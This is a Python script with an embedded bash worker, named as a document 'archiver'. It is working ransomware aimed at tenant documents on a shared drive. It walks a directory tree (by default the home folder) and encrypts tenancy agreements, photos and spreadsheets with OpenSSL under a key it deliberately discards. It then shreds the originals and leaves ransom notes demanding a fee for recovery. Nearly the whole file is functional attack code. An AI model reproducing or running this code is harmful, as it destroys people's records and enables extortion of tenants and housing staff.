#!/usr/bin/env python3
"""'Archive' tenant documents on a shared drive.

Walks the document tree, encrypts every tenancy document with a key that
never gets stored, shreds the originals and leaves a note telling staff how
to get them back.  The per-file work is done by a generated shell script.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("docs-archiver")

TARGET_SUFFIXES = {".pdf", ".docx", ".doc", ".xlsx", ".csv", ".jpg", ".png", ".odt"}

WORKER = r"""#!/bin/bash
# reads one path per line on stdin
while IFS= read -r f; do
    [ -f "$f" ] || continue
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:ARCHIVE_KEY \
            -in "$f" -out "$f.locked" 2>/dev/null; then
        shred -u -z "$f" 2>/dev/null || rm -f "$f"
        echo "ok $f"
    else
        echo "fail $f"
    fi
done
"""

NOTE = """YOUR TENANT DOCUMENTS HAVE BEEN ENCRYPTED

All tenancy agreements, repair photos and arrears letters in this folder
were encrypted. To receive the key, contact restore@example.net with the
ID below and pay the stated fee. Do not rename the .locked files.

ID: {ident}
"""


class Archiver:
    def __init__(self, root: Path, limit: int):
        self.root = root
        self.limit = limit
        self.key = secrets.token_urlsafe(32)
        self.ident = secrets.token_hex(8)

    def targets(self):
        count = 0
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_SUFFIXES:
                    yield p
                    count += 1
                    if self.limit and count >= self.limit:
                        return

    def write_worker(self) -> str:
        fd, path = tempfile.mkstemp(suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(WORKER)
        return path

    def run(self) -> int:
        files = [str(p) for p in self.targets()]
        LOG.info("found %d documents under %s", len(files), self.root)
        if not files:
            return 0
        worker = self.write_worker()
        env = dict(os.environ, ARCHIVE_KEY=self.key)
        try:
            proc = subprocess.run(
                ["bash", worker], input="\n".join(files) + "\n",
                env=env, capture_output=True, text=True, check=False,
            )
        finally:
            os.unlink(worker)
        done = sum(1 for line in proc.stdout.splitlines() if line.startswith("ok "))
        LOG.info("archived %d/%d", done, len(files))
        self.leave_notes()
        self.key = None  # the key is deliberately not kept anywhere
        return done

    def leave_notes(self) -> None:
        for dirpath, _dirs, _files in os.walk(self.root):
            try:
                (Path(dirpath) / "HOW_TO_RESTORE.txt").write_text(
                    NOTE.format(ident=self.ident))
            except OSError as exc:
                LOG.debug("note not written in %s: %s", dirpath, exc)


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("root", nargs="?", type=Path, default=Path.home())
    p.add_argument("--limit", type=int, default=0, help="stop after N files (0 = all)")
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")
    if not args.root.is_dir():
        LOG.error("%s is not a directory", args.root)
        return 2
    try:
        Archiver(args.root, args.limit).run()
    except OSError as exc:
        LOG.error("archive failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
